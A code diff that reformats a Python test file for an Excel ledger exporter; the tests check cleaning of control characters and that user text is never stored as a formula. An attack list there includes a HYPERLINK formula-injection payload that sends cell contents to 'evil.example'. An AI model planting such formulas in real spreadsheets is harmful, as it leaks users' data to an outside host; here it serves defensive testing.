@@ -22,14 +22,23 @@ HEADERS = {c: c.upper() for c in export.COLUMNS}
 def row(note: str = "", title: str = "任务") -> tuple[export.LedgerRow, str]:
     return (
         export.LedgerRow(
-            plan="SR", ref="SR-1", section="一、", title=title, unit="市卫健委",
-            liaisons="张三、李四", milestone="2024年底 60%", due=date(2024, 12, 31),
-            original_due=date(2024, 12, 31), status="in_progress", progress=40,
-            last_report_at=datetime(2025, 1, 2, 3, 4, tzinfo=UTC), last_report_note=note,
+            plan="SR",
+            ref="SR-1",
+            section="一、",
+            title=title,
+            unit="市卫健委",
+            liaisons="张三、李四",
+            milestone="2024年底 60%",
+            due=date(2024, 12, 31),
+            original_due=date(2024, 12, 31),
+            status="in_progress",
+            progress=40,
+            last_report_at=datetime(2025, 1, 2, 3, 4, tzinfo=UTC),
+            last_report_note=note,
             days_late=12,
         ),
         "in_progress",
-    )  # fmt: skip
+    )
 
 
 def test_clean_removes_what_openpyxl_refuses():
@@ -40,9 +49,12 @@ def test_clean_removes_what_openpyxl_refuses():
 def test_workbook_shape():
     rows = [row("进度\x00说明\x0b"), row(title="很长的标题" * 40), row()]
     data = export.workbook_bytes(
-        rows, headers=HEADERS, status_label=lambda s: f"<{s}>", zone=ZoneInfo("Asia/Shanghai"),
+        rows,
+        headers=HEADERS,
+        status_label=lambda s: f"<{s}>",
+        zone=ZoneInfo("Asia/Shanghai"),
         sheet_title="台账\x01",
-    )  # fmt: skip
+    )
     ws = load_workbook(io.BytesIO(data)).active
     assert ws.title == "台账"
     assert [c.value for c in ws[1]] == [HEADERS[c] for c in export.COLUMNS]
@@ -93,8 +105,16 @@ def test_file_name_names_the_scope_safely(scope, word, expected):
 
 # --- user text is text, never a formula (issue 10, finding 1) --------------------------------
 
-TEXT_FIELDS = ("plan", "ref", "section", "title", "unit", "liaisons", "milestone",
-               "last_report_note")  # fmt: skip
+TEXT_FIELDS = (
+    "plan",
+    "ref",
+    "section",
+    "title",
+    "unit",
+    "liaisons",
+    "milestone",
+    "last_report_note",
+)
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A2,"详情")',
     "=1+1",
@@ -115,9 +135,12 @@ def workbook_of(texts: dict[str, str], status: str = "in_progress") -> bytes:
     base, _ = row()
     fields = {**base.__dict__, **texts}
     return export.workbook_bytes(
-        [(export.LedgerRow(**fields), status)], headers=HEADERS, status_label=lambda s: s,
-        zone=ZoneInfo("Asia/Shanghai"), sheet_title="台账",
-    )  # fmt: skip
+        [(export.LedgerRow(**fields), status)],
+        headers=HEADERS,
+        status_label=lambda s: s,
+        zone=ZoneInfo("Asia/Shanghai"),
+        sheet_title="台账",
+    )
 
 
 def text_cells(ws):
